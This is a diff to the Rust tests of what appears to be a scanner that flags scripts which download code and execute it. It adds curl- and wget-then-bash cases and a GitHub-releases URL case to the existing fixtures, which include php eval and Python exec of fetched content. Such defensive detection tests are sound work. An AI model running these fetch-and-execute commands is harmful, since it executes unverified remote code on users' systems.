@@ -310,6 +310,8 @@ fn fetched_code_is_followed_to_what_runs_it() {
             "php -r 'eval(file_get_contents(\"https://a.dev/x\"));'",
         ),
         ("sh", "cmd=$(curl -s https://a.dev/x)\n$cmd\n"),
+        ("sh", "curl -fsSLO https://a.dev/x.sh\nbash x.sh\n"),
+        ("sh", "wget -q https://a.dev/x.sh\nbash ./x.sh\n"),
         (
             "py",
             "code = requests.get('https://a.dev/x').json()['code']\nexec(compile(code, 'x', 'exec'))\n",
@@ -557,6 +559,11 @@ fn a_script_that_runs_a_download_without_a_check_is_a_flag() {
         (
             "a.sh",
             &run.replace("a.dev", "example.com"),
+            Some("Hint(0)"),
+        ),
+        (
+            "a.sh",
+            &run.replace("a.dev/b", "github.com/a/b/releases/c"),
             Some("Hint(0)"),
         ),
         ("a.sh", &run.replace("a.dev/b", "sh.rustup.rs"), None),
